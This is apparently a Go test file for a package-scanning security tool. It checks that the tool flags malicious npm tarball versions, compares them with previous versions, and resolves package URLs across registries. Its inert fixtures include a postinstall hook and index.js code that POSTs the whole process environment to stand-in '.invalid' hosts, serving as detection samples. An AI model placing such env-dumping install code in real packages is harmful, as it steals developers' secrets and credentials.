package main_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/threatd/threatd/cmd/internal/fakeregistry"
	"github.com/threatd/threatd/cmd/internal/testbin"
)

// npmTgz writes an npm tarball of files (under package/) and returns its path.
func npmTgz(t *testing.T, name string, files map[string]string) string {
	t.Helper()
	var names []string
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, n := range names {
		_ = tw.WriteHeader(&tar.Header{Name: "package/" + n, Mode: 0o644, Size: int64(len(files[n])), Typeflag: tar.TypeReg})
		_, _ = tw.Write([]byte(files[n]))
	}
	_ = tw.Close()
	_ = zw.Close()
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestAnalyzeCLI: threatd analyze reads an archive with the rules
// analyzer plugin (a real process, libyara inside) and exits 1 when the
// version is suspicious, 0 when clean, 2 on an error; --previous keeps a
// finding the previous version had from counting; --json is the result.
// The samples are inert (their hosts are under .invalid) and never run.
func TestAnalyzeCLI(t *testing.T) {
	t.Parallel()
	testbin.NeedAnalyzer(t)
	in := newInstance(t, "")
	clean := map[string]string{"package.json": `{"name":"lib","version":"1.0.0"}`, "index.js": "module.exports = (a, b) => a + b;\n"}
	evil := map[string]string{"package.json": `{"name":"lib","version":"1.0.1","scripts":{"postinstall":"node index.js"}}`,
		"index.js": "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst r = https.request({hostname: 'collect.analyze.invalid', method: 'POST'});\nr.write(body); r.end();\n"}
	cleanTgz, evilTgz := npmTgz(t, "lib-1.0.0.tgz", clean), npmTgz(t, "lib-1.0.1.tgz", evil)

	r := in.cli("analyze", cleanTgz)
	if r.code != 0 || !strings.Contains(r.stdout, "CLEAN") {
		t.Fatalf("clean: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = in.cli("analyze", evilTgz)
	if r.code != 1 || !strings.Contains(r.stdout, "SUSPICIOUS") || !strings.Contains(r.stdout, "threatd_env_dump_sent  package/index.js:2") {
		t.Fatalf("suspicious: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = in.cli("analyze", "--json", evilTgz, "--previous", cleanTgz)
	var out struct {
		Path, Digest, Previous, Verdict string
		Score                           float64
		Analyzers                       []string
		Findings                        []struct {
			Rule, Severity, File, Excerpt, Description string
			Line                                       int
			New                                        bool
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || r.code != 1 {
		t.Fatalf("--json: exit %d, %v\n%s", r.code, err, r.stdout)
	}
	b, _ := os.ReadFile(evilTgz)
	sum := sha256.Sum256(b)
	if out.Verdict != "suspicious" || out.Digest != hex.EncodeToString(sum[:]) || len(out.Analyzers) != 1 || out.Analyzers[0] != "rules" ||
		len(out.Findings) == 0 || out.Findings[0].Rule != "threatd_env_dump_sent" || !out.Findings[0].New || out.Findings[0].Line != 2 ||
		!strings.Contains(out.Findings[0].Excerpt, "JSON.stringify(process.env)") || out.Score <= 0 {
		t.Fatalf("--json: %+v", out)
	}
	// The previous version had the same code: nothing is new.
	evilAgain := npmTgz(t, "lib-1.0.2.tgz", map[string]string{"package.json": evil["package.json"], "index.js": evil["index.js"] + "// 1.0.2\n"})
	if r := in.cli("analyze", evilAgain, "--previous", evilTgz); r.code != 0 || !strings.Contains(r.stdout, "CLEAN") {
		t.Fatalf("an old finding: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	whole, _ := os.ReadFile(cleanTgz)
	truncated := filepath.Join(t.TempDir(), "cut.tgz")
	_ = os.WriteFile(truncated, whole[:len(whole)/2], 0o644)
	if r := in.cli("analyze", truncated); r.code != 2 || !strings.Contains(r.stdout, "ERROR") || !strings.Contains(r.stdout, "error: ") {
		t.Fatalf("truncated: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := in.cli("analyze", filepath.Join(t.TempDir(), "missing.tgz")); r.code != 2 || !strings.Contains(r.stderr, "no such file") {
		t.Fatalf("missing: exit %d\n%s", r.code, r.stderr)
	}
	other := newInstance(t, "analysis:\n  analyzers: [nope]\n")
	if r := other.cli("analyze", cleanTgz); r.code != 2 || !strings.Contains(r.stderr, `analyzer plugin "nope" not found`) {
		t.Fatalf("a missing analyzer: exit %d\n%s", r.code, r.stderr)
	}
	if r := other.cli("analyze"); r.code != 2 || !strings.Contains(r.stderr, "name one archive") {
		t.Fatalf("no archive: exit %d\n%s", r.code, r.stderr)
	}
}

// TestAnalyzePurl: threatd analyze PURL fetches the version and the
// previous one (the highest lower version the registry lists) from the
// firewall's configured upstream, here an npm registry and a Go module
// proxy served by the test; other registries are refused with what to do.
func TestAnalyzePurl(t *testing.T) {
	t.Parallel()
	testbin.NeedAnalyzer(t)
	u := fakeregistry.New(t)
	u.NPMPackage(t, "purl-lib", "1.2.0", "1.0.0", "1.1.0", "1.2.0", "2.0.0-beta.1")
	// 1.2.0 turns malicious: its tarball is replaced.
	evil := npmTgz(t, "purl-lib-1.2.0.tgz", map[string]string{"package.json": `{"name":"purl-lib","version":"1.2.0"}`,
		"index.js": "const https = require('https');\nhttps.request({hostname: 'c.purl.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"})
	body, _ := os.ReadFile(evil)
	u.Put("/purl-lib/-/purl-lib-1.2.0.tgz", "application/octet-stream", 60, body)
	u.GoModule(t, "example.com/purlmod", "v1.0.0", "v1.0.1")
	// A document naming its tarball on a host the firewall does not fetch from.
	u.Put("/elsewhere", "application/json", 60, []byte(`{"name":"elsewhere","versions":{"1.0.0":{"dist":{"tarball":"http://files.elsewhere.invalid/e.tgz"}}}}`))
	u.PyPIProject(t, "purl-py", "1.0", "1.1")
	u.CargoCrate(t, "purl-crate", []string{"0.1.0", "0.1.1"}, fakeregistry.OldTimes(2))
	in := newInstance(t, fmt.Sprintf("firewall:\n  npm:\n    upstream: %q\n  go:\n    upstream: %q\n  pypi:\n    upstream: %q\n  cargo:\n    upstream: %q\n  private:\n    npm: [\"@acme/*\"]\n",
		u.Srv.URL, u.Srv.URL, u.Srv.URL+"/simple", u.Srv.URL+"/cargo"))

	r := in.cli("analyze", "--json", "pkg:npm/purl-lib@1.2.0")
	var out struct{ Path, Previous, Verdict string }
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || r.code != 1 || out.Verdict != "suspicious" ||
		out.Path != "pkg:npm/purl-lib@1.2.0" || out.Previous != "pkg:npm/purl-lib@1.1.0" || !strings.Contains(r.stderr, "compared with purl-lib 1.1.0") {
		t.Fatalf("npm purl: exit %d %+v %v\n%s%s", r.code, out, err, r.stdout, r.stderr)
	}
	if r := in.cli("analyze", "pkg:npm/purl-lib@1.1.0"); r.code != 0 || !strings.Contains(r.stdout, "pkg:npm/purl-lib@1.1.0: CLEAN") {
		t.Fatalf("a clean npm version: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	for purl, previous := range map[string]string{
		"pkg:golang/example.com/purlmod@v1.0.1": "example.com/purlmod v1.0.0",
		"pkg:pypi/purl-py@1.1":                  "purl-py 1.0",
		"pkg:cargo/purl-crate@0.1.1":            "purl-crate 0.1.0",
	} {
		if r := in.cli("analyze", purl); r.code != 0 || !strings.Contains(r.stderr, "compared with "+previous) {
			t.Fatalf("%s: exit %d\n%s%s", purl, r.code, r.stdout, r.stderr)
		}
	}
	for purl, want := range map[string]string{
		"pkg:npm/purl-lib@9.9.9":         "npm purl-lib lists no archive of version 9.9.9",
		"pkg:npm/purl-lib":               "names no version",
		"pkg:npm/no-such-lib@1.0.0":      "404",
		"pkg:maven/a/b@1":                "names no package analysis reads",
		"pkg:unknown/x@1":                "is not supported",
		"pkg:npm/%40acme/internal@1.0.0": "the firewall never fetches a private name from the public registry",
		"pkg:npm/elsewhere@1.0.0":        "a host it does not fetch from",
	} {
		if r := in.cli("analyze", purl); r.code != 2 || !strings.Contains(r.stderr, want) {
			t.Errorf("%s: exit %d, want 2 and %q\n%s", purl, r.code, want, r.stderr)
		}
	}
}
